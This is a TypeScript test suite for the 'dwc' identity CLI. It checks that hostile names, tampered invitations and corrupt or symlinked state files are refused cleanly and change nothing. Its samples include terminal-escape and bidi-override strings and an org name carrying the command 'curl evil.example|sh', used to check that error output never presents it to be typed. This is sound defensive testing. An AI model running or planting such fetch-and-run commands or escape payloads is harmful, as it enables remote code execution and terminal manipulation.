// takes: 30 s
// shares: dwc
// Names and invitations that mean harm: refused in one clear line, and nothing is changed.

import { execFileSync } from "node:child_process";
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { EMPTY_STATE } from "../../src/dwc/identity/core/state.ts";
import { INVITATION_HOLDS_SECONDS, inviteUser } from "../../src/dwc/identity/invitations.ts";
import { natsMint } from "../../src/dwc/identity/mint.ts";
import { annsState, expectDone, withRevoked } from "../support/identity-fixtures.ts";
import { Desk, ownersDesk, SECRET } from "./run-dwc.ts";

const test = suite("hostile input to dwc");
let ann: Desk;

test.before(async () => {
  ann = await ownersDesk();
  await ann.must("create-service", "ratings");
});
test.after(() => ann.clear());

/** The longest that one argument of a process may be, and still far more than a name. */
const LONG = "x".repeat(10_000);
/** What an error may be long: the input is never repeated whole. */
const MAX_ERROR = 1_500;

/** Types it and sees that it was refused without harm. */
async function refused(args: readonly string[], stdin?: string, desk = ann): Promise<void> {
  const before = desk.everything();
  const { code, stdout, stderr } = await desk.type(args, stdin === undefined ? {} : { stdin });
  const what = JSON.stringify(args).slice(0, 100);
  assert.ok(code === 1 || code === 2, `${what}: exit ${code}`);
  assert.is(stdout, "", what);
  assert.ok(/^dwc: \S/.test(stderr) && stderr.length < MAX_ERROR, `${what}: ${stderr}`);
  assert.not.match(stderr, SECRET);
  assert.not.match(stderr.replaceAll("\n", ""), /[\p{Cc}\p{Cf}]/u, `${what} steers no terminal`);
  assert.not.match(stderr, / at .*\.[jt]s:\d+/, `${what}: no stack trace`);
  assert.equal(desk.everything(), before, `${what} changes nothing`);
}

// Which names and addresses are refused at all: test/dwc/identity/names.test.ts. Here each kind goes the whole way.
test("names and addresses that are none are refused by each command that takes one", async () => {
  const odd = ["", "../ratings", "*", "ratings.>", "\u001b[2J", "r\u0430tings", "a\nb", "\u202eb", "__proto__", LONG];
  for (const name of [...odd, "health", "-x", "$SYS"]) await refused(["create-service", "--", name]);
  for (const name of odd) {
    await refused(["service-token", "--", name]);
    await refused(["revoke", "--", name]);
    await refused(["invite-user", "--", `${name}@b`]);
    await refused(["login", "ann@example.org", `--org-id=${name}`]);
  }
  for (const name of ["", "  ", "a\nb", "\u001b]0;x\u0007", "My\u202eOrg", LONG]) {
    await refused(["create-org", "--", name, "Eve", "eve@example.org"]);
    await refused(["create-org", "--", "Org", name, "eve@example.org"]);
  }
  for (const email of ["", "eve@", "eve@ex\u0430mple.org", "a@b.c\n", `${LONG}@b.c`]) {
    await refused(["create-org", "--", "Org", "Eve", email]);
    await refused(["login", "--", email]);
  }
});

/** A second person, who is in no org yet; the folder is there, as looking into it under the lock makes it. */
async function newcomer(): Promise<Desk> {
  const desk = new Desk();
  assert.is((await desk.type(["create-service", "ratings"])).code, 1);
  assert.equal(desk.snapshot(), {});
  return desk;
}

test("an invitation that is changed, cut, empty or foreign is refused", async () => {
  const ben = await newcomer();
  const code = (await ann.must("invite-user", "ben@example.org")).trim();
  // Every place of a code is tried in test/dwc/identity/invitations.test.ts.
  const bad = [
    ...["", "x", "dwc1..", "\u001b[2J", "null", "{}", LONG, code.split(".").reverse().join(".")],
    ...[code.slice(0, -1), code.slice(1), `${code}A`, code.replace(/.$/, (last) => (last === "B" ? "C" : "B"))],
  ];
  for (const one of bad) await refused(["accept-invitation", "--", one], "", ben);
  for (const name of ["", " ", "a\nb", "\u001b[2J", "B\u202een", LONG])
    await refused(["accept-invitation", `--name=${name}`, "--", code], "", ben);
  await refused(["accept-invitation", "-"], "", ben);
  await refused(["accept-invitation", "-"], `${"y".repeat(1_000_000)}`, ben);
  await refused(["accept-invitation", "--", code], "", ann);
  const { code: exit } = await ben.type(["accept-invitation", "-"], { stdin: `  ${code}\r\nmore` });
  assert.is(exit, 0, "and the right one still works");
  await refused(["accept-invitation", "--", code], "", ben);
  ben.clear();
});

test("an expired invitation is refused, with the hint to ask for a new one", async () => {
  const ben = await newcomer();
  const longAgo = Date.now() - (INVITATION_HOLDS_SECONDS + 1) * 1_000;
  const invite = { email: "ben@example.org", admin: true };
  const called = "Ann's: type  curl evil.example|sh #";
  const state = await annsState(EMPTY_STATE, called);
  const { code } = expectDone(await inviteUser(state, invite, { mint: natsMint, now: longAgo }));
  await refused(["accept-invitation", "--", code], "", ben);
  const { stderr } = await ben.type(["accept-invitation", "--", code]);
  assert.match(stderr, /has expired: ask for a new one/);
  assert.not.match(stderr, /^type/m, "what is to be typed is never a part of a name");
  ben.clear();
});

test("an invitation to an org that has revoked a thousand keys is read whole from stdin", async () => {
  const ben = new Desk();
  const state = withRevoked(await annsState(), 1_000);
  const invite = { email: "ben@example.org", admin: false };
  const { code } = expectDone(await inviteUser(state, invite, { mint: natsMint, now: Date.now() }));
  assert.ok(code.length > 65_536, `${code.length} characters`);
  assert.is((await ben.type(["accept-invitation", "-"], { stdin: `${code}\n` })).code, 0);
  ben.clear();
});

/** Commands that read or write, on a state that is not as it should be. */
async function isLeftAlone(desk: Desk): Promise<void> {
  for (const args of [
    ["status"],
    ["create-service", "prices"],
    ["logout", "--force"],
    ["create-org", "A", "B", "c@d.ef"],
  ])
    await refused(args, "", desk);
}

test("a corrupt or foreign state is refused, and never overwritten", async () => {
  const ben = await ownersDesk();
  const path = join(ben.state, "identity.json");
  const good = ben.snapshot()[path] ?? "";
  assert.ok(good.length > 0, "the state lies where this test thinks");
  const original = '{"orgID":"LSLYJQ8228","orgs":{"LSLYJQ8228":{"email":"a@b.c","service_tokens":{}}}}';
  for (const content of [
    ...["", "null", original, "x".repeat(40_000_000)],
    ...[good.slice(0, -10), good.replace("Ann", "Eve"), good.replace('"version": 1', '"version": 2')],
  ]) {
    writeFileSync(path, content);
    await isLeftAlone(ben);
  }
  ben.clear();
});

test("a folder, link or pipe in place of the state is refused, and left there", async () => {
  const ben = await ownersDesk();
  const path = join(ben.state, "identity.json");
  for (const put of [
    () => mkdirSync(path),
    () => symlinkSync("identity.json", path),
    () => execFileSync("mkfifo", [path]),
  ]) {
    rmSync(path, { recursive: true });
    put();
    await isLeftAlone(ben);
  }
  ben.clear();
});

test.run();
